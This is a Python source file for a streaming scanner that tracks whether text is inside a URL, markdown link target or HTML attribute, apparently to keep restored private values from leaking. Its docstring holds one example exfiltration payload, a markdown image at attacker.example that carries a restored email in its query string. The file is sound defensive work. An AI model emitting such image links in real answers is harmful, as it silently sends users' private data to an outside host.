"""Where a text is the target of a link or an image.

A chat window fetches the images of an answer without a click, so a value that is restored inside a
URL leaves the machine: `![](https://attacker.example/?q=[EMAIL_7K2Q])`. The scanner knows, at every
position, whether the text before it has begun a URL, and it keeps the URL open for as long as some
reader may: CommonMark's grammar of targets, HTML's of attributes, the habits of chat windows.

| what opens a target | what ends it |
|---|---|
| `scheme://`, `www.`, `//` behind a quote, a bracket or an equals sign | a blank, `<` |
| the same behind a quote | that quote, the end of the line |
| `](` | the bracket that closes it, a title, the end of the line |
| `]:` | a blank |
| `](<`, `]:<` | `>` outside of an attribute's quotes, an empty line |
| `=` in an HTML tag | the value's quote, on whichever line; a blank or `>` where it has none |

A placeholder that *is* the whole beginning of a target is not inside: nobody chose a host for it.

It reads a text once, from left to right, in pieces of any size. The tests have a CommonMark
renderer read what was restored, and look at what it would fetch.
"""

import re
from dataclasses import dataclass

_OPENS = r"""
    (?P<bare> :(?:\\{0,2}/){2} | (?<![\w@])www\. | (?<=["'(={`])//\w )
    | (?P<link> \]\( )
    | (?P<word> \]: )
"""
_TEXT = re.compile(rf"{_OPENS} | (?P<tag> <[a-z] )", re.IGNORECASE | re.VERBOSE)
_TAG = re.compile(rf"{_OPENS} | (?P<value> = ) | (?P<tag_end> > )", re.IGNORECASE | re.VERBOSE)
"""What opens a target in text, and inside an HTML tag."""

_CARRY = 40
_SCHEME = re.compile(r"[A-Za-z][A-Za-z0-9+.\-]{0,23}\Z")
_LONGEST_SCHEME = 24

_QUOTES = "\"'`"
_BLANK = re.compile(r"[ \t\n\f\r]*")
# Only what CommonMark and HTML take for a blank: others are part of a URL to them.
_NOTABLE = {
    "bare": re.compile(r"[ \t\n\f\r<>\"'`]"),
    "link": re.compile(r"[\\() \t\f\r\n]"),
    "word": re.compile(r"[ \t\n\f\r]"),
    "angle": re.compile(r"[\\>=\n\"']"),
    "value": re.compile(r"[ \t\n\f\r>]"),
    "quoted": re.compile(r"[\"']"),
}
"""Characters that are not simply part of a target, by mode."""


def may_link(text: str) -> bool:
    """Tell whether a text holds what a link can begin with, also once a part of it is replaced."""
    # fixed strings are found many times faster than a pattern
    return (
        "//" in text
        or "\\/" in text
        or "](" in text
        or "]:" in text
        or "<" in text
        or "www." in text.lower()
    )


@dataclass(slots=True)
class LinkScanner:
    """Says whether the position reached is inside a URL.

    Attributes:
        begin: Offset at which the present target began; meaningful while `inside`.
    """

    begin: int = 0
    _at: int = 0
    _carry: str = ""
    _tag: bool = False
    _mode: str = ""
    _fresh: bool = False
    # Within a target: the quote that ends it, brackets that are open, and what stood just before.
    _quote: str = ""
    _depth: int = 0
    _before: str = ""

    @property
    def inside(self) -> bool:
        """Whether the next character continues a target that has begun."""
        return bool(self._mode) and not self._fresh

    def read(self, text: str) -> None:
        """Read the next piece of text."""
        piece = self._carry + text
        if self._mode or self._tag or may_link(piece):
            self._scan(piece, len(self._carry))
        self._at += len(text)
        self._carry = piece[-_CARRY:]

    def skip(self, length: int) -> None:
        """Pass a placeholder: it is opaque, and no trigger reaches across it."""
        self._at += length
        self._carry = ""
        self._fresh = False
        self._before = ""

    def end(self, text: str, at: int, until: int) -> int | None:
        """Read on for the end of the open target, and stand before it.

        Args:
            text: The text that is read.
            at: Where something opaque ends.
            until: Where the next begins.

        Returns:
            The offset at which the target ends, `None` when it goes on.
        """
        self._before = ""
        found = self._within(text, at, until)
        if found is None:
            return None
        if self._mode == "angle":
            self._quote = ""
        self._depth, self._before = 0, ""
        return found[0]

    def _scan(self, piece: str, at: int) -> None:
        base = self._at - at
        while at < len(piece):
            if not self._mode:
                triggers = _TAG if self._tag else _TEXT
                found = triggers.search(piece, max(0, at - _CARRY))
                while found and found.end() <= at:
                    found = triggers.search(piece, found.end())
                if not found:
                    break
                at = found.end()
                self._start(found, piece, base)
            elif self._fresh:
                at = self._first(piece, at, base)
            else:
                ended = self._within(piece, at, len(piece))
                if ended is None:
                    break
                at = ended[1]
                if self._mode in ("bare", "value") and piece[ended[0]] == ">":
                    self._tag = False
                self._mode = ""

    def _start(self, found: re.Match[str], piece: str, base: int) -> None:
        kind = found.lastgroup or ""
        if kind in ("tag", "tag_end"):
            self._tag = kind == "tag"
            return
        self._mode, self._fresh = kind, kind != "bare"
        self._quote, self._depth, self._before = "", 0, ""
        self.begin = base + found.end()
        if kind == "bare":
            start = found.start()
            if piece[start] == ":":
                scheme = _SCHEME.search(piece, max(0, start - _LONGEST_SCHEME), start)
                start = scheme.start() if scheme else start
            self.begin = base + start
            if start and piece[start - 1] in _QUOTES:
                self._quote = piece[start - 1]

    def _first(self, piece: str, at: int, base: int) -> int:
        """Read the first character of a target, which decides how the target ends."""
        blank = _BLANK.match(piece, at)
        assert blank is not None
        at = blank.end()
        self.begin = base + at
        if at == len(piece):
            return at
        first = piece[at]
        if (self._mode == "value" and first in "\"'") or (
            self._mode in ("link", "word") and first == "<"
        ):
            # the mark opens the target; whether anything of it was read is still open
            self._mode, self._quote = ("angle", "") if first == "<" else ("quoted", first)
            self.begin = base + at + 1
            return at + 1
        self._fresh = False
        return at

    def _within(self, text: str, at: int, until: int) -> tuple[int, int] | None:
        """Go on in a target.

        Returns:
            Where it ends and where to read on, `None` when it goes on at `until`.
        """
        blanks = at
        while True:
            if self._before:
                if at >= until:
                    return None
                sign, before = text[at], self._before
                if before == "\\":
                    self._before = ""
                    at += 1
                    continue
                if sign in " \t\f" or (before == "=" and sign in "\r\n"):
                    at += 1
                    continue
                self._before = ""
                if before == " " and sign in "\"'":  # a title
                    return blanks, at
                if before == "\n" and sign in "\r\n":
                    return blanks, at + 1
                if before == "=" and sign in "\"'":
                    self._quote = sign
                    at += 1
            found = _NOTABLE[self._mode].search(text, at, until)
            if found is None:
                return None
            at = found.end()
            if self._ends(found[0]):
                return found.start(), at
            if self._before in (" ", "\n"):
                blanks = found.start()

    def _ends(self, sign: str) -> bool:
        """Say whether a notable character ends the target."""
        quote = self._quote
        if self._mode == "bare":
            if quote in ("'", '"'):
                return sign == quote or sign in "\r\n"
            return sign in " \t\n\f\r<" or sign == quote or (sign == ">" and self._tag)
        if self._mode == "quoted":
            return sign == quote
        if self._mode == "angle":
            if quote:
                self._quote = "" if sign == quote else quote
            elif sign == ">":
                return True
            elif sign in "\\=\n":
                self._before = sign
            return False
        if self._mode == "link":
            if sign in "()":
                self._depth += 1 if sign == "(" else -1
            else:
                self._before = "\\" if sign == "\\" else " "
            return self._depth < 0 or sign in "\r\n"
        return True
